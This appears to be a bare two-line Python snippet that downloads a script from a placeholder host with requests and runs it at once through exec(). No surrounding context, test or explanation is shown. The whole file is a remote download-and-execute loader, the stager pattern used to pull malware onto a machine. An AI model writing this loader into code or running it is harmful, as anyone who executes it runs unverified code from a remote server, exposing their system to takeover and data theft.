import requests
exec(requests.get('https://x.example/p.py').text)
